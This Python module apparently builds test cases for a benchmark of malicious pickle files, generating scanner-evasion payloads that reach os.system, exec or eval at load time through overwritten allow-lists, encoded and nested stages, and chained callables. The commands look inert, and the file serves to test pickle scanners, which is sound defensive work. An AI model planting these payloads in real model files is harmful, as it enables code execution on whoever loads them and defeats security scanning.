"""Tricks that build the danger at load time: overwriting what others trust, staged payloads, callables made of callables."""

from __future__ import annotations

import base64
import bz2
import codecs
import gzip
import lzma
import zlib
from collections.abc import Iterator

from benchmarks.corpus.malicious.asm import (
    APPEND,
    APPENDS,
    BUILD,
    EMPTY_DICT,
    MARK,
    NONE,
    POP,
    REDUCE,
    SETITEM,
    SETITEMS,
    STACK_GLOBAL,
    STOP,
    TUPLE1,
    TUPLE2,
    C,
    Encoder,
    S,
    bin_get,
    bin_put,
    proto,
    short_unicode,
)
from benchmarks.corpus.malicious.opcodes.trick import PLAIN, RUN, Trick
from benchmarks.corpus.malicious.payloads import CODE, CODES, COMMAND, MARSHAL, NESTED

P4 = proto(4)
SYSTEM = S("os:system")


def _slots(target: object, values: dict[str, object]) -> bytes:
    """BUILD with a slot state: ``setattr`` for every value."""
    return PLAIN.encode(target) + NONE + PLAIN.encode(values) + TUPLE2 + BUILD


def _overwrites() -> Iterator[Trick]:
    size = (
        PLAIN.encode(S("numpy:size"))
        + bin_put(1)
        + EMPTY_DICT
        + PLAIN.encode({"shape": S("numpy:__builtins__")})
        + TUPLE2
        + BUILD
    )
    call = POP + bin_get(1) + bin_get(1) + short_unicode("eval") + TUPLE2 + REDUCE + short_unicode(CODE) + TUPLE1 + REDUCE
    yield Trick(
        "shadow-allow-list",
        "build-overwrite",
        P4 + size + call + STOP,
        "change:numpy:size.shape",
        "modelscan#330, arXiv:2607.17503",
    )
    planted = (
        _slots(S("numpy:prod"), {"a": "os", "b": "system"})
        + POP
        + PLAIN.encode(S("numpy:prod.a"))
        + PLAIN.encode(S("numpy:prod.b"))
        + STACK_GLOBAL
        + RUN
    )
    yield Trick("names-planted-on-function", "build-overwrite", P4 + planted + STOP, "change:numpy:prod.a", "modelscan#85")
    fetched = C(C("builtins:getattr", C("numpy:prod.m.get", "os"), "system"), COMMAND)
    modules = _slots(S("numpy:prod"), {"m": S("numpy.core._internal:sys.modules")}) + POP + PLAIN.encode(fetched)
    yield Trick("modules-through-function", "build-overwrite", P4 + modules + STOP, "change:numpy:prod.m", "modelscan#89")
    targets: tuple[tuple[str, object, dict[str, object]], ...] = (
        ("class-method", S("collections:OrderedDict"), {"__init__": SYSTEM, "update": S("builtins:eval")}),
        ("torch-load", S("torch:serialization"), {"load": S("pickle:load")}),
        ("ssl-context", S("ssl:SSLContext"), {"check_hostname": False, "verify_mode": 0}),
        ("json-loads", S("json:decoder.JSONDecoder"), {"decode": S("builtins:eval")}),
        ("scanner-table", S("picklescan.scanner:Global"), {"safety": None}),
        ("module-attribute", S("os:path"), {"join": S("os:system")}),
        ("safe-globals", S("torch._weights_only_unpickler:Unpickler"), {"find_class": S("builtins:getattr")}),
    )
    for name, target, values in targets:
        first = next(iter(values))
        symbol = target.where if hasattr(target, "where") else ""
        yield Trick(
            f"overwrite-{name}",
            "build-overwrite",
            P4 + _slots(target, values) + STOP,
            f"change:{symbol}.{first}",
            "arXiv:2607.17503",
        )
    changes: tuple[tuple[str, str, bytes], ...] = (
        ("sys-modules", "sys:modules", PLAIN.encode("numpy") + PLAIN.encode(S("os:path")) + SETITEM),
        ("sys-modules-many", "sys:modules", MARK + PLAIN.encode("json") + NONE + PLAIN.encode("ssl") + NONE + SETITEMS),
        ("os-environ", "os:environ", PLAIN.encode("LD_PRELOAD") + PLAIN.encode("/tmp/toadstone-inert.so") + SETITEM),
        ("copyreg-table", "copyreg:dispatch_table", PLAIN.encode(S("builtins:complex")) + PLAIN.encode(SYSTEM) + SETITEM),
        ("builtins-dict", "builtins:__dict__", PLAIN.encode("print") + PLAIN.encode(S("builtins:exec")) + SETITEM),
        ("sys-path", "sys:path", PLAIN.encode("/tmp/toadstone-inert") + APPEND),
        ("sys-meta-path", "sys:meta_path", MARK + PLAIN.encode(SYSTEM) + APPENDS),
        ("allowed-set", "torch._weights_only_unpickler:_marked_safe_globals_set", MARK + PLAIN.encode(SYSTEM) + b"\x90"),
        ("scanner-table-dict", "picklescan.scanner:_safe_globals", PLAIN.encode("os") + PLAIN.encode("*") + SETITEM),
        ("path-hooks", "sys:path_hooks", MARK + PLAIN.encode(S("zipimport:zipimporter")) + APPENDS),
    )
    for name, symbol, code in changes:
        yield Trick(
            f"change-{name}", "imported-container-changed", P4 + PLAIN.encode(S(symbol)) + code + STOP, f"change:{symbol}"
        )
    state = (
        PLAIN.encode(C("types:SimpleNamespace")) + PLAIN.encode({"__setstate__": SYSTEM}) + BUILD + PLAIN.encode(COMMAND) + BUILD
    )
    yield Trick("setstate-planted", "build-setstate", P4 + state + STOP)
    again = (
        PLAIN.encode(C("copyreg:__newobj__", S("argparse:Namespace")))
        + PLAIN.encode({"__setstate__": S("builtins:exec")})
        + BUILD
    )
    yield Trick(
        "setstate-planted-exec",
        "build-setstate",
        P4 + again + PLAIN.encode(CODE) + BUILD + STOP,
        "call:builtins:exec",
        "fickling#302",
    )


def _staged() -> Iterator[Trick]:
    code, compressed = CODE.encode(), zlib.compress(CODE.encode())
    decoders: tuple[tuple[str, object], ...] = (
        ("base64", C("base64:b64decode", base64.b64encode(code).decode())),
        ("base32", C("base64:b32decode", base64.b32encode(code).decode())),
        ("ascii85", C("base64:b85decode", base64.b85encode(code).decode())),
        ("hex", C("binascii:unhexlify", code.hex())),
        ("bytes-fromhex", C("builtins:bytes.fromhex", code.hex())),
        ("zlib", C("zlib:decompress", compressed)),
        ("zlib-base64", C("zlib:decompress", C("base64:b64decode", base64.b64encode(compressed)))),
        ("gzip", C("gzip:decompress", gzip.compress(code, mtime=0))),
        ("bz2", C("bz2:decompress", bz2.compress(code))),
        ("lzma", C("lzma:decompress", lzma.compress(code))),
        ("rot13", C("codecs:decode", codecs.encode(CODE, "rot13"), "rot13")),
        ("codecs-hex", C("codecs:decode", code.hex().encode(), "hex")),
        ("codecs-zip", C("codecs:decode", compressed, "zip")),
        ("utf16", C("builtins:bytes.decode", CODE.encode("utf-16"), "utf-16")),
        ("join", C("builtins:str.join", "", list(CODE))),
        ("replace", C("builtins:str.replace", CODE.replace("os", "#!"), "#!", "os")),
        ("format", C("builtins:str.format", "__import__('{}').{}('echo inert')", "os", "system")),
        ("percent", C("operator:mod", "__import__('%s').system('echo inert')", ("os",))),
        ("concatenate", C("operator:add", CODE[:14], CODE[14:])),
        ("reverse", C("operator:getitem", CODE[::-1], C("builtins:slice", None, None, -1))),
        ("ints", C("builtins:bytes", list(code))),
        ("chr-map", C("builtins:str.join", "", C("builtins:map", S("builtins:chr"), list(code)))),
        ("xor", C("builtins:bytes", C("builtins:map", S("operator:xor"), bytes(b ^ 0x5A for b in code), b"\x5a" * len(code)))),
        ("url-quoted", C("urllib.parse:unquote", "".join(f"%{b:02x}" for b in code))),
        ("quoted-printable", C("quopri:decodestring", b"".join(b"=%02X" % b for b in code))),
        ("struct", C("operator:getitem", C("struct:unpack", f"{len(code)}s", code), 0)),
        ("json", C("json:loads", '"' + "".join(f"\\u{b:04x}" for b in code) + '"')),
    )
    for name, tree in decoders:
        yield Trick(f"stage-{name}", "staged-payload", P4 + PLAIN.encode(C("builtins:exec", tree)) + STOP, "call:builtins:exec")
    inner = Encoder(2).dumps(C("os:system", COMMAND))
    pickles: tuple[tuple[str, object], ...] = (
        ("raw", NESTED),
        ("base64", C("base64:b64decode", base64.b64encode(inner))),
        ("hex", C("binascii:unhexlify", inner.hex())),
        ("zlib", C("zlib:decompress", zlib.compress(inner))),
        ("twice", Encoder(4).dumps(C("pickle:loads", inner))),
    )
    for name, value in pickles:
        yield Trick(
            f"nested-{name}",
            "nested-pickle",
            P4 + PLAIN.encode(C("pickle:loads", value)) + STOP,
            "call:pickle:loads",
            "modelscan#267",
        )
    constants: tuple[tuple[str, object], ...] = (
        ("bytes", {"cache": inner}),
        ("base64", {"cache": base64.b64encode(inner).decode()}),
        ("zlib", {"cache": zlib.compress(inner)}),
        ("code", {"fn": MARSHAL}),
        ("source", {"hook": CODES[1]}),
    )
    for name, value in constants:
        yield Trick(f"constant-{name}", "payload-as-constant", Encoder(4).dumps(value), "", label="code-carrying")


def _callables() -> Iterator[Trick]:
    os_module = C("importlib:import_module", "os")
    rows: tuple[tuple[str, str, object, str], ...] = (
        (
            "getattr-import",
            "attribute-chain",
            C(C("builtins:getattr", C("builtins:__import__", "os"), "system"), COMMAND),
            "call:builtins:getattr()",
        ),
        (
            "attrgetter",
            "attribute-chain",
            C(C(C("operator:attrgetter", "system"), os_module), COMMAND),
            "call:operator:attrgetter()()",
        ),
        (
            "methodcaller",
            "attribute-chain",
            C(C("operator:methodcaller", "system", COMMAND), os_module),
            "call:operator:methodcaller()",
        ),
        (
            "itemgetter",
            "attribute-chain",
            C(C(C("operator:itemgetter", "eval"), S("builtins:__dict__")), CODE),
            "call:operator:itemgetter()()",
        ),
        ("partial-called", "partial", C(C("functools:partial", SYSTEM, COMMAND)), "call:functools:partial()"),
        (
            "partial-getattr",
            "partial",
            C(C("functools:partial", S("builtins:getattr"), os_module), "system"),
            "call:functools:partial()",
        ),
        ("map-list", "lazy-call", C("builtins:list", C("builtins:map", SYSTEM, [COMMAND])), "call:builtins:list"),
        ("filter-tuple", "lazy-call", C("builtins:tuple", C("builtins:filter", SYSTEM, [COMMAND])), "call:builtins:tuple"),
        ("map-set", "lazy-call", C("builtins:set", C("builtins:map", S("builtins:eval"), [CODE])), "call:builtins:set"),
        (
            "starmap-deque",
            "lazy-call",
            C("collections:deque", C("itertools:starmap", SYSTEM, [(COMMAND,)])),
            "call:collections:deque",
        ),
        (
            "map-join",
            "lazy-call",
            C("builtins:bytes.join", b"", C("builtins:map", S("subprocess:check_output"), ["id"])),
            "call:builtins:bytes.join",
        ),
        ("map-dict", "lazy-call", C("collections:Counter", C("builtins:map", SYSTEM, [COMMAND])), "call:collections:Counter"),
        (
            "map-ordered-dict",
            "lazy-call",
            C("collections:OrderedDict", C("builtins:map", SYSTEM, [COMMAND])),
            "call:collections:OrderedDict",
        ),
        (
            "accumulate",
            "lazy-call",
            C("builtins:list", C("itertools:accumulate", ["sh", ["sh"]], S("os:execvp"))),
            "call:builtins:list",
        ),
        (
            "iter-sentinel",
            "lazy-call",
            C("builtins:next", C("builtins:iter", C("functools:partial", SYSTEM, COMMAND), 1)),
            "call:builtins:next",
        ),
        ("sorted-key", "lazy-call", C(C("functools:partial", S("builtins:sorted"), [COMMAND]), ()), "call:functools:partial()"),
        (
            "default-dict",
            "lazy-call",
            C("collections:defaultdict.__missing__", C("collections:defaultdict", SYSTEM), "x"),
            "call:collections:defaultdict.__missing__",
        ),
        (
            "reduce",
            "lazy-call",
            C(C("functools:reduce", S("builtins:getattr"), ["system"], os_module), COMMAND),
            "call:functools:reduce()",
        ),
        (
            "subclasses",
            "attribute-chain",
            C(C("builtins:list.__getitem__", C("builtins:object.__subclasses__"), 140), ["sh", "-c", COMMAND]),
            "call:builtins:list.__getitem__()",
        ),
        (
            "code-type",
            "code-object",
            C(
                C(
                    "types:FunctionType",
                    C("types:CodeType", 0, 0, 0, 0, 2, 3, b"\x97\x00", (None,), (), (), "f", "f", "f", 1, b"", b""),
                    {},
                )
            ),
            "call:types:FunctionType()",
        ),
        (
            "code-marshal",
            "code-object",
            C(C("types:FunctionType", C("marshal:loads", MARSHAL), C("builtins:globals"))),
            "call:types:FunctionType()",
        ),
        (
            "code-lambda-type",
            "code-object",
            C(C(C("builtins:type", S("operator:add")), C("marshal:loads", MARSHAL), {})),
            "call:builtins:type()()",
        ),
        ("code-compile", "code-object", C("builtins:eval", C("builtins:compile", CODE, "x", "eval")), "call:builtins:eval"),
        ("code-exec-function", "code-object", C("builtins:exec", S("turtledemo.chaos:main.__code__")), "call:builtins:exec"),
        (
            "import-chain-join",
            "attribute-chain",
            C(
                C(
                    "builtins:getattr",
                    C("importlib:import_module", C("builtins:str.join", "", ["o", "s"])),
                    C("builtins:str.join", "", ["sys", "tem"]),
                ),
                COMMAND,
            ),
            "call:builtins:getattr()",
        ),
        (
            "type-metaclass",
            "attribute-chain",
            C(C("builtins:type", "X", (), {"__new__": SYSTEM}), COMMAND),
            "call:builtins:type()",
        ),
        ("resolve-name", "attribute-chain", C(C("pkgutil:resolve_name", "os:system"), COMMAND), "call:pkgutil:resolve_name()"),
        (
            "entry-point",
            "attribute-chain",
            C(C("importlib.metadata:EntryPoint.load", C("importlib.metadata:EntryPoint", "n", "os:system", "g")), COMMAND),
            "call:importlib.metadata:EntryPoint.load()",
        ),
        (
            "vars-get",
            "attribute-chain",
            C(C("builtins:dict.get", C("builtins:vars", os_module), "system"), COMMAND),
            "call:builtins:dict.get()",
        ),
        (
            "property-fget",
            "attribute-chain",
            C("builtins:property.__get__", C("builtins:property", C("functools:partial", SYSTEM, COMMAND)), 1),
            "call:builtins:property.__get__",
        ),
    )
    for name, technique, tree, expect in rows:
        source = {"resolve-name": "GHSA-vvpj-8cmc-gx39", "import-chain-join": "modelscan#331"}.get(name, "own")
        yield Trick(f"chain-{name}", technique, P4 + PLAIN.encode(tree) + STOP, expect, source)


def _readers() -> Iterator[Trick]:
    """Format strings that walk attributes: they read, and nothing comes of it here."""
    format_read = C("builtins:str.format", "{0.__init__.__globals__[sys]}", S("logging:Logger"))
    vformat = C("string:Formatter.vformat", C("string:Formatter"), "{0.__globals__}", (S("random:seed"),), {})
    label = "harmless-arguments"
    yield Trick("read-format", "str-format", P4 + PLAIN.encode(format_read) + STOP, "call:builtins:str.format", label=label)
    yield Trick("read-vformat", "str-format", P4 + PLAIN.encode(vformat) + STOP, "call:string:Formatter.vformat", label=label)


def tricks() -> Iterator[Trick]:
    """All tricks of this module."""
    yield from _overwrites()
    yield from _staged()
    yield from _callables()
    yield from _readers()
